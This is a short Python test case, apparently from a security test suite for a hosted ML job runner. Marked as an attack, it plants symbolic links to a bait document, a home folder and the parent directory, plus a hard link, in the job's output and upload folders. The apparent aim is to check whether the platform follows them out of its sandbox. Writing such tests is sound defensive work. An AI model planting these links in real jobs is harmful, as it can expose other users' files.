"""Leaves links to foreign files and folders among its outputs, symbolic and hard."""

import os

from attack import BAIT, attack, job_folder


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.makedirs("outputs")
    uploads = os.path.join(job_folder(), "outputs", "files")
    for folder in (uploads, "outputs", "."):
        os.symlink(BAIT["document"], os.path.join(folder, "link.png"))
        os.symlink(BAIT["home"], os.path.join(folder, "folder"))
        os.symlink("..", os.path.join(folder, "up"))
        try:
            os.link(BAIT["document"], os.path.join(folder, "hard.png"))
        except OSError:
            continue
    return ""
